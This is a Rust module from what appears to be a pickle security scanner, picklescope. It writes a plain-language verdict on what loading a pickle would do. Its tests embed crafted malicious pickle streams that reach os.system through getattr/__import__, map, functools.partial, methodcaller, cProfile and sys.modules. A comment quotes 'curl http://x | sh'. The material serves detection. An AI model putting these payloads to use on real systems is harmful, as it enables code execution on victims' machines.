//! The verdict in one sentence that a newcomer understands, and one line of facts below it.

use std::cmp::Reverse;

use super::{Executed, Finding, Report, Severity, capability_text};
use crate::bytes::ErrorKind;
use crate::formats::boosters::{Library, Model};
use crate::formats::{Artifact, Body};
use crate::pickle::{NodeId, Value};
use crate::view::describe::{Detail, describe};
use crate::view::{escape, number};

/// How the sentence is meant: decides icon and colour.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Tone {
    /// Nothing but known calls.
    Clean,
    /// Something unknown, or something unread.
    Caution,
    /// Something dangerous.
    Danger,
}

/// The verdict in words.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Sentence {
    /// How it is meant.
    pub tone: Tone,
    /// The sentence.
    pub text: String,
    /// The sentence without the arguments, for where the call stands beside it.
    pub headline: String,
    /// The call that matters most, as Python, if there is one.
    pub call: Option<String>,
    /// Facts about the file.
    pub facts: String,
}

/// What a file builds: `a scikit-learn Pipeline`, `a dict of 3 items`, `nothing`.
fn built(artifact: &Artifact) -> String {
    let article = |word: &str| if word.starts_with(['a', 'e', 'i', 'o', 'A', 'E', 'I', 'O', 'X']) { "an" } else { "a" };
    if let Some((part, _, pickled)) = artifact.pickles().next() {
        let Some(root) = pickled.root() else { return "nothing".to_owned() };
        let graph = &pickled.decoded.graph;
        let described = describe(artifact, part, pickled, root, Detail::Row);
        let library = graph.class(root).map(|class| match class.module.split('.').next() {
            Some("sklearn") => "scikit-learn ",
            Some("pandas") => "pandas ",
            Some("xgboost") => "XGBoost ",
            Some("lightgbm") => "LightGBM ",
            _ => "",
        });
        return match graph.value(root) {
            Value::None => "None".to_owned(),
            Value::List(items) => format!("a list of {}", number::count(items.len() as u64, "item")),
            Value::Dict(pairs) => {
                format!("a dict of {}", entries(artifact, part, pairs.iter().map(|(_, value)| value)))
            }
            Value::Object(object) if described.type_name == "OrderedDict" && !object.entries.is_empty() => {
                format!("an OrderedDict of {}", entries(artifact, part, object.entries.iter().map(|(_, value)| value)))
            }
            _ if artifact.array_of(part, root).is_some() => {
                format!("an array {} {}", described.type_name, described.value)
            }
            _ => {
                let name = format!("{}{}", library.unwrap_or(""), described.type_name);
                format!("{} {name}", article(&name))
            }
        };
    }
    if let Some(document) = artifact.document(0) {
        return format!("{} {}", article(document.what), document.what);
    }
    match artifact.arrays.len() {
        0 => "nothing".to_owned(),
        1 => "one array".to_owned(),
        n => format!("{n} arrays"),
    }
}

/// What a dict holds: `122 tensors`, `4 items with 144 tensors`, `3 items`.
fn entries(artifact: &Artifact, part: usize, values: impl ExactSizeIterator<Item = NodeId>) -> String {
    let n = values.len() as u64;
    let tensors = artifact.own_arrays().iter().filter(|array| array.part == part && array.storage.is_some()).count();
    let items = number::count(n, "item");
    match tensors as u64 {
        0 => items,
        all if all == n && values.into_iter().all(|value| artifact.array_of(part, value).is_some()) => {
            number::count(all, "tensor")
        }
        some => format!("{items} with {}", number::count(some, "tensor")),
    }
}

/// The sentence for a file.
pub fn sentence(artifact: &Artifact, report: &Report) -> Sentence {
    let built = built(artifact);
    let first = lead(report);
    let (tone, text, call) = match first.map(|finding| (finding, finding.rule.severity)) {
        Some((finding, Severity::Danger)) => {
            let (text, call) = danger(artifact, report, finding, &built);
            (Tone::Danger, text, call)
        }
        Some((_, Severity::Caution)) => caution(artifact, report, &built),
        _ => unflagged(artifact, report, &built),
    };
    let given = first.map(|finding| given(&finding.arguments)).filter(|given| !given.is_empty());
    let headline = given.filter(|_| call.is_some()).map_or_else(|| text.clone(), |given| text.replacen(&given, "", 1));
    Sentence { tone, text, headline, call: call.map(|call| escape::plain(&call)), facts: facts(artifact) }
}

/// The finding that the sentence is about: of the dangerous ones what comes of it, before the steps that lead there.
fn lead(report: &Report) -> Option<&Finding> {
    let dangerous = report.findings.iter().take_while(|finding| finding.rule.severity == Severity::Danger);
    // What is given something comes before the call that made it.
    dangerous
        .min_by_key(|finding| (rank(finding), Reverse(finding.arguments.len())))
        .or_else(|| report.findings.first())
}

/// The lower, the more a finding says of what loading comes to.
fn rank(finding: &Finding) -> usize {
    const WORST: [&str; 10] = [
        "process",
        "exec",
        "native",
        "file-write",
        "packaging",
        "network",
        "tamper",
        "deser",
        "file-read",
        "thread-signal",
    ];
    let capability = names_capability(&finding.callable).unwrap_or("other");
    let worst = WORST.iter().position(|known| *known == capability);
    match (finding.executed, finding.rule.id) {
        (Executed::Call, "planted-method") => 0,
        (Executed::Call, "known-danger" | "computed-name" | "walks-through") => worst.unwrap_or(WORST.len() + 1),
        // What is called by a name on no list comes before a step to reach something.
        (Executed::Call, "changes-import" | "unlisted-call" | "telling-call") => WORST.len(),
        (Executed::Call, _) => WORST.len() + 2 + worst.unwrap_or(WORST.len()),
        _ => 3 * WORST.len() + worst.unwrap_or(WORST.len()),
    }
}

/// What a dangerous finding comes to: the sentence, and the call as Python.
fn danger(artifact: &Artifact, report: &Report, finding: &Finding, built: &str) -> (String, Option<String>) {
    let name = escape::plain(&finding.callable);
    let call = format!("{}{}", finding.callable, finding.arguments);
    // Who calls something to call this shows its own arguments.
    let via = finding.detail.strip_prefix("Reached through ").filter(|via| !via.starts_with('<'));
    let through = via.map_or_else(String::new, |via| format!(" through {}", escape::plain(via)));
    let given = given(&finding.arguments);
    let then =
        if built == "nothing" || is_result(artifact, report) { String::new() } else { format!(", then build {built}") };
    // Something worse that is handed over, or kept for later.
    let held = report.findings.iter().filter(|other| other.rule.id == "danger-import").min_by_key(|other| rank(other));
    let held = held.map(|held| escape::plain(&held.callable)).filter(|held| *held != name && !given.contains(held));
    match finding.rule.id {
        "danger-import" => (
            format!(
                "If loaded, this file would hold {name} for whoever uses it{}",
                if then.is_empty() { String::new() } else { format!(", and build {built}") }
            ),
            Some(format!("import {}", finding.callable)),
        ),
        "hidden-pickle" => (
            format!("This file carries a pickle inside its data that would reach {name}"),
            Some(finding.callable.clone()),
        ),
        "changes-import" => {
            let verb = match finding.detail.as_str() {
                "Sets attributes of it" => "set attributes of",
                "Sets items of it" => "set items of",
                _ => "add to",
            };
            let held = held.map_or_else(String::new, |held| format!(", {held} among them"));
            (format!("If loaded, this file would {verb} {name}{held}{then}"), Some(call))
        }
        "planted-method" => {
            (format!("If loaded, this file would make the unpickler itself call {name}{then}"), Some(call))
        }
        _ => {
            let verb = names_capability(&finding.callable)
                .map_or_else(String::new, |capability| format!(" and {}", capability_text(capability)));
            let held = held.map_or_else(String::new, |held| format!(" and hold {held}"));
            let call = via.map_or(call, |via| format!("{via}{}", finding.arguments));
            (format!("If loaded, this file would call {name}{through}{given}{verb}{held}{then}"), Some(call))
        }
    }
}

/// True if what loading gives is the result of a dangerous call, or a name: nothing is built then.
fn is_result(artifact: &Artifact, report: &Report) -> bool {
    let Some((part, _, pickled)) = artifact.pickles().next() else { return false };
    let Some(root) = pickled.root() else { return false };
    let made = pickled.decoded.graph.object(root).map(|object| object.callee);
    let dangerous = report.findings.iter().take_while(|finding| finding.rule.severity == Severity::Danger);
    let mut at = dangerous.filter(|finding| finding.place.part == part && finding.executed == Executed::Call);
    let name = pickled.decoded.graph.symbol(root).is_some();
    // Of what a call returned nothing is known.
    let unnamed = made.is_some_and(|callee| pickled.decoded.graph.symbol(callee).is_none());
    name || unnamed || at.any(|finding| finding.place.node == Some(root))
}

/// The arguments of a call in a sentence: ` with 'curl http://x | sh'`, the end of long ones left out.
fn given(arguments: &str) -> String {
    const ROOM: usize = 60;
    let bare = arguments.strip_prefix('(').and_then(|rest| rest.strip_suffix(')')).unwrap_or(arguments);
    let text = escape::plain(bare);
    match text.char_indices().nth(ROOM) {
        _ if text.is_empty() => String::new(),
        Some((end, _)) => format!(" with {}…", text.get(..end).unwrap_or(&text)),
        None => format!(" with {text}"),
    }
}

/// The capability that the tables give a dotted name.
fn names_capability(callable: &str) -> Option<&'static str> {
    let (module, name) = callable.rsplit_once('.')?;
    match super::names::standing(module, name) {
        super::names::Standing::Danger(capability) | super::names::Standing::Held(capability)
            if !matches!(capability, "other" | "unlisted") =>
        {
            Some(capability)
        }
        _ => None,
    }
}

fn caution(artifact: &Artifact, report: &Report, built: &str) -> (Tone, String, Option<String>) {
    let unknown: Vec<&Finding> =
        report.findings.iter().filter(|f| matches!(f.rule.id, "unknown-call" | "unknown-import")).collect();
    if unknown.is_empty() {
        let (tone, text, call) = unflagged(artifact, report, built);
        if tone != Tone::Clean {
            return (tone, text, call);
        }
        let why = report.findings.first().map_or_else(String::new, |finding| match finding.detail.as_str() {
            "" => finding.title(),
            detail => detail.to_owned(),
        });
        let what = if report.reaches.is_empty() { "Only data" } else { "Only known calls" };
        return (Tone::Caution, format!("{what}, but look closer: {why}"), None);
    }
    let names: Vec<String> = unknown.iter().take(2).map(|finding| escape::plain(&finding.callable)).collect();
    let called = unknown.iter().any(|finding| finding.rule.id == "unknown-call");
    let verb = if called { "call" } else { "import" };
    let what = number::count(unknown.len() as u64, "name");
    let more = if unknown.len() > 2 { ", …" } else { "" };
    let text =
        format!("If loaded, this file would {verb} {what} picklescope does not know: {}{more}", names.join(", "));
    (Tone::Caution, text, None)
}

fn unflagged(artifact: &Artifact, report: &Report, built: &str) -> (Tone, String, Option<String>) {
    let broke = artifact.problems.iter().find(|problem| !problem.kind.is_remark());
    match broke.map(|problem| (problem, &problem.kind)) {
        Some((_, ErrorKind::Empty)) => (Tone::Caution, "The file is empty".to_owned(), None),
        Some((_, ErrorKind::Unrecognised)) => {
            (Tone::Caution, "This is not a format picklescope knows. Its bytes are shown.".to_owned(), None)
        }
        Some((_, ErrorKind::NotSupported(what))) => {
            (Tone::Caution, format!("This is {what}, which picklescope does not read. Its bytes are shown."), None)
        }
        Some((_, ErrorKind::Cancelled)) => {
            (Tone::Caution, "Stopped. What was read until then is shown.".to_owned(), None)
        }
        Some((_, ErrorKind::Limit { .. } | ErrorKind::Ratio { .. })) => {
            let words = broke.map(ToString::to_string).unwrap_or_default();
            (Tone::Caution, format!("Not read to its end: {words}"), None)
        }
        Some((problem, kind)) => {
            let at = problem.at.start;
            let how = match kind {
                ErrorKind::Truncated { .. } | ErrorKind::NoStop => "ends early",
                _ => "is damaged",
            };
            (Tone::Caution, format!("The file {how} at {at:#x}: {problem}. Everything before that is shown."), None)
        }
        None if report.reaches.is_empty() => {
            (Tone::Clean, format!("Only data: loading this builds {built} and calls nothing"), None)
        }
        None => (Tone::Clean, format!("Only known calls: loading this builds {built}"), None),
    }
}

fn facts(artifact: &Artifact) -> String {
    let mut all = Vec::new();
    if let Some((_, _, pickled)) = artifact.pickles().next() {
        let graph = &pickled.decoded.graph;
        let version = pickled.root().and_then(|root| graph.attribute(root, "_sklearn_version"));
        if let Some(version) = version.and_then(|version| graph.str(version)) {
            all.push(format!("scikit-learn {}", escape::plain(version)));
        }
        let models = (0..artifact.parts.len()).filter_map(|part| Model::of_part(artifact, part));
        for model in models.filter(|model| model.library == Library::Xgboost).take(1) {
            let version = model.summary().version.map(|version| format!(" {}", escape::plain(&version)));
            all.push(format!("{}{}", model.library.name(), version.unwrap_or_default()));
        }
        let numpy = |name: &str| graph.symbols().iter().any(|symbol| symbol.module.starts_with(name));
        if numpy("numpy._core") {
            all.push("NumPy 2".to_owned());
        } else if numpy("numpy.core") {
            all.push("NumPy 1".to_owned());
        }
        if let Some(pickle) = pickled.decoded.top().next() {
            let codecs: Vec<&str> =
                artifact.container.iter().copied().filter(|word| !matches!(*word, "pickle")).collect();
            let inside = if codecs.is_empty() { String::new() } else { format!(" in {}", codecs.join(", ")) };
            all.push(format!("pickle protocol {}{inside}", pickle.protocol));
        }
    }
    if all.is_empty() {
        let opaque = artifact.parts.iter().all(|part| matches!(part.body, Body::Opaque(_)));
        let words = artifact.container.join(", ");
        all.push(if opaque && words.is_empty() { "unknown format".to_owned() } else { words });
    }
    all.push(number::size(artifact.bytes.len()));
    all.push(number::count(artifact.n_objects(), "object"));
    all.push(number::count(artifact.own_arrays().len() as u64, "array"));
    all.join(" · ")
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::*;
    use crate::bytes::{Bytes, Limits, Progress};
    use crate::formats;

    fn of(bytes: Vec<u8>) -> Sentence {
        let artifact = formats::read(Path::new("x"), Bytes::from_vec(bytes), &Limits::default(), &Progress::new());
        sentence(&artifact, &super::super::report(&artifact, &super::super::Allow::default()))
    }

    #[test]
    fn the_sentence_says_what_loading_would_do() {
        let samples = Path::new(env!("CARGO_MANIFEST_DIR")).join("assets/samples");
        let clean = of(std::fs::read(samples.join("logistic_model.pkl")).unwrap());
        assert_eq!(clean.text, "Only known calls: loading this builds a scikit-learn LogisticRegression");
        let flagged = of(std::fs::read(samples.join("flagged_call.pkl")).unwrap());
        assert_eq!(flagged.tone, Tone::Danger);
        assert_eq!(flagged.call.as_deref(), Some("posix.system('echo picklescope sample: this would have run')"));
        assert_eq!(
            flagged.text,
            "If loaded, this file would call posix.system with 'echo picklescope sample: this would have run' and start a \
             process or run a shell command, then build a scikit-learn LogisticRegression"
        );
        assert_eq!(of(b"".to_vec()).text, "The file is empty");
        let torch = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus/files/torch");
        let dict = of(std::fs::read(torch.join("state_dict.pt")).unwrap());
        assert!(dict.text.ends_with("an OrderedDict of 4 tensors"), "{}", dict.text);
        assert_eq!(
            of(b"\x80\x04]\x94.".to_vec()).text,
            "Only data: loading this builds a list of 0 items and calls nothing"
        );
        assert!(of(b"\x80\x04cmypkg.hooks\non_load\n)R.".to_vec()).text.ends_with("mypkg.hooks.on_load"));
        assert!(of(b"\x80\x04X\xff\0\0\0a".to_vec()).text.starts_with("The file ends early at 0x2"));
        assert!(of(b"\x80\x04N\xff.".to_vec()).text.starts_with("The file is damaged at 0x3"));
        let text = |stream: &[u8]| of(stream.to_vec()).text;
        let before = "If loaded, this file would";
        // getattr(__import__("os"), "system")("id")
        let steps =
            b"\x80\x02c__builtin__\ngetattr\nc__builtin__\n__import__\nU\x02os\x85RU\x06system\x86RU\x02id\x85R.";
        assert_eq!(
            text(steps),
            format!("{before} call os.system with 'id' and start a process or run a shell command")
        );
        let map = b"\x80\x02c__builtin__\ntuple\nc__builtin__\nmap\ncos\nsystem\n]U\x02ida\x86R\x85R.";
        let through =
            "call os.system through builtins.map with os.system, ['id'] and start a process or run a shell command";
        assert_eq!(text(map), format!("{before} {through}, then build a tuple"));
        let walks = b"\x80\x04\x8c\x04enum\x8c\nbltns.eval\x93\x8c\x011\x85R.";
        assert_eq!(text(walks), format!("{before} call enum.bltns.eval with '1'"));
        let given = b"\x80\x02cmultiprocess\nPool\nK\x01cos\nsystem\n\x86R.";
        assert_eq!(text(given), format!("{before} call multiprocess.Pool with 1, os.system"));
        let partial = b"\x80\x02cfunctools\npartial\ncos\nsystem\nU\x02id\x86R)R.";
        let through =
            "call os.system through functools.partial with os.system, 'id' and start a process or run a shell command";
        assert_eq!(text(partial), format!("{before} {through}"));
        let method =
            b"\x80\x02coperator\nmethodcaller\nU\x06systemU\x02id\x86Rc__builtin__\n__import__\nU\x02os\x85R\x85R.";
        assert!(
            text(method)
                .starts_with(&format!("{before} call os.system through operator.methodcaller with 'system', 'id'"))
        );
        let modules = b"\x80\x02csys\nmodules\nU\x04jsoncos\nsystem\ns.";
        assert_eq!(text(modules), format!("{before} set items of sys.modules, os.system among them"));
        let method = b"\x80\x04ccProfile\nProfile.runcall\n(ccProfile\nProfile\n)Rcos\nsystem\nU\x02idtR.";
        let given = "call cProfile.Profile.runcall with cProfile.Profile(), os.system, 'id' and run code";
        assert_eq!(text(method), format!("{before} {given}"));
        let held = b"\x80\x02}U\x04hookcos\nsystem\ns.";
        assert_eq!(text(held), format!("{before} hold os.system for whoever uses it, and build a dict of 1 item"));
    }
}
